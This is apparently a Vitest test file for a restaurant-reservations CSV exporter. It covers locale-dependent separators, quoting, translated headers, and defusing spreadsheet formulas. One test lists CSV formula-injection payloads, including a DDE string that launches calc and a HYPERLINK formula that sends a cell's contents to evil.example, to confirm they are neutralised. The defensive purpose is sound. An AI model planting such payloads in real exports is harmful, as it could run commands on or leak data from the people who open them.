import { describe, expect, it } from 'vitest';

import { inEnglish, translatorFor } from '../../i18n/translator';
import { CSV_COLUMNS, csvField, csvHeader, csvRow, csvSeparatorFor } from './reservations-csv';

describe('reservations CSV', () => {
  it('separates with a semicolon where the member’s language writes decimals with a comma, as spreadsheets there expect', () => {
    expect(['en', 'ja', 'ko', 'zh-Hans', 'zh-Hant'].map(csvSeparatorFor)).toEqual([',', ',', ',', ',', ',']);
    expect(['de', 'fr', 'es', 'it', 'pt', 'nl', 'sv', 'da', 'nb', 'fi', 'pl'].map(csvSeparatorFor)).toEqual(
      Array(11).fill(';'),
    );
    // a semicolon in a cell is quoted where it separates; a comma then needs no quotes
    expect(csvField('Tisch 4; Fenster', ';')).toBe('"Tisch 4; Fenster"');
    expect(csvField('a,b', ';')).toBe('a,b');
    expect(csvHeader((c) => c, ';').startsWith('id;status;date;')).toBe(true);
  });

  it('quotes what needs quoting and defuses formulas from guest input', () => {
    expect(csvField('plain')).toBe('plain');
    expect(csvField('a,b')).toBe('"a,b"');
    expect(csvField('say "hi"\nthere')).toBe('"say ""hi""\nthere"');
    expect(csvField('=HYPERLINK("x")')).toBe(`"'=HYPERLINK(""x"")"`);
    expect(csvField('@SUM(A1)')).toBe("'@SUM(A1)");
    expect(csvField('-cmd')).toBe("'-cmd");
    expect(csvField(null)).toBe('');
    expect(csvField(4)).toBe('4');
  });

  it('prefixes every cell a spreadsheet could run as a formula, whatever follows its first character', () => {
    const attacks = [
      '=1+1',
      "+1+cmd|' /C calc'!A0",
      '-2+3+HYPERLINK("https://evil.example/?leak="&H2,"Details")',
      '@SUM(A1:A9)',
      '\t=1+1',
      '\r=1+1',
      '-1 ',
      '+ 1',
      '- 2+3',
      '+1+1',
      '-1e3',
      '-0x10',
      '+44 20 7946 0000+HYPERLINK("x")',
      '＝1+1',
      '＋1+1',
      '－2+3',
      '＠SUM(A1)',
    ];
    for (const attack of attacks) {
      const cell = csvField(attack);
      const unquoted = cell.startsWith('"') ? cell.slice(1, -1).replace(/""/g, '"') : cell;
      expect(unquoted, JSON.stringify(attack)).toBe(`'${attack}`);
    }
  });

  it('leaves alone a value that is wholly a number and a phone number in international form', () => {
    expect(csvField('+44 20 7946 0000')).toBe('+44 20 7946 0000');
    expect(csvField('+1 212 555 0100')).toBe('+1 212 555 0100');
    expect(csvField(-3)).toBe('-3');
    expect(csvField('-42')).toBe('-42');
    expect(csvField('-12.5')).toBe('-12.5');
    expect(csvField('+7')).toBe('+7');
    // Not phone numbers by the strict pattern: prefixed.
    expect(csvField('+44  20 7946 0000')).toBe("'+44  20 7946 0000");
    expect(csvField('+12 3')).toBe("'+12 3");
    expect(csvField('+44 20 7946 0000 ')).toBe("'+44 20 7946 0000 ");
  });

  it('writes one line per reservation in the header order', () => {
    expect(csvHeader().trim().split(',')).toEqual([...CSV_COLUMNS]);
    const line = csvRow(
      {
        id: '3a4a3700-001d-5892-8142-f043d9bb21c1',
        status: 'confirmed',
        date: '2026-12-01',
        time: '19:30',
        party_size: 4,
        guest: { first_name: 'Inês', last_name: 'Silva, Jr', email: 'ines@example.com', phone: null },
        program_id: null,
        locale: 'pt-PT',
        notes: null,
      },
      'Casa Alfama',
    );
    expect(line).toBe(
      '3a4a3700-001d-5892-8142-f043d9bb21c1,confirmed,2026-12-01,19:30,4,Inês,"Silva, Jr",ines@example.com,,Casa Alfama,,,pt-PT,,,\r\n',
    );
  });

  it('names the columns in the member’s language: in English the API’s field names', async () => {
    const english = csvHeader((c) => inEnglish(`reservations.export.columns.${c}`));
    expect(english).toBe(csvHeader());
    expect(english).toBe(
      'id,status,date,time,party_size,guest_first_name,guest_last_name,guest_email,guest_phone,venue,venue_id,program_id,locale,notes,created_at,canceled_at\r\n',
    );
    const de = await translatorFor('de');
    const german = csvHeader((c) => de(`reservations.export.columns.${c}`));
    expect(german.trim().split(',')).toHaveLength(CSV_COLUMNS.length);
    expect(german).not.toBe(english);
    // A name is a field like any other: quoted where it needs it.
    expect(csvHeader((c) => (c === 'id' ? 'Id, internal' : c))).toMatch(/^"Id, internal",status,/);
  });
});
